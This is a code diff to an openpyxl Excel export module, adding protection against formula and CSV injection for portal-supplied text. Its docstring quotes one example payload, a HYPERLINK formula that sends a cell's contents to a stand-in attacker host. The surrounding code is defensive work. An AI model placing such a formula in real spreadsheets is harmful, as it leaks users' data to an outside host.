@@ -1,6 +1,14 @@
 """Excel workbooks from the report models (openpyxl), with the same band colours as the HTML.
 
 Rates are written as numbers with a percent format (so they sort and sum), never as text.
+
+Text is never a formula: unit and procedure names, codes and every other string come from the
+portals, and a name such as `=HYPERLINK("http://evil.example/?x="&A1,"click")` would be a live
+formula (openpyxl makes any string starting with `=` one). So before saving, every string cell
+is stored as a string (`data_type "s"`), and one that starts like a formula or a CSV-injection
+payload (`=`, `+`, `-`, `@`, tab, carriage return, line feed) also gets the `quotePrefix` style,
+which tells Excel and LibreOffice it is text, also once someone edits the cell or saves the
+sheet as CSV. The workbook holds no formula of ours, so nothing is lost.
 """
 
 from __future__ import annotations
@@ -451,7 +459,22 @@ def _finish_table(ws: Worksheet, widths: Sequence[int], filter_: bool = True) ->
         ws.auto_filter.ref = ws.dimensions
 
 
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+def _text_only(wb: Workbook) -> None:
+    """Every string cell as plain text, never a formula (see the module docstring)."""
+    for ws in wb.worksheets:
+        # the written cells only: `iter_rows` would create a cell for every empty position
+        for cell in ws._cells.values():
+            value = cell._value
+            if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
+                cell.data_type = "s"
+                cell.quotePrefix = True
+
+
 def _save(wb: Workbook, title: str) -> bytes:
+    _text_only(wb)
     wb.properties.title = title
     wb.properties.creator = "kpi-pipeline"
     buf = io.BytesIO()
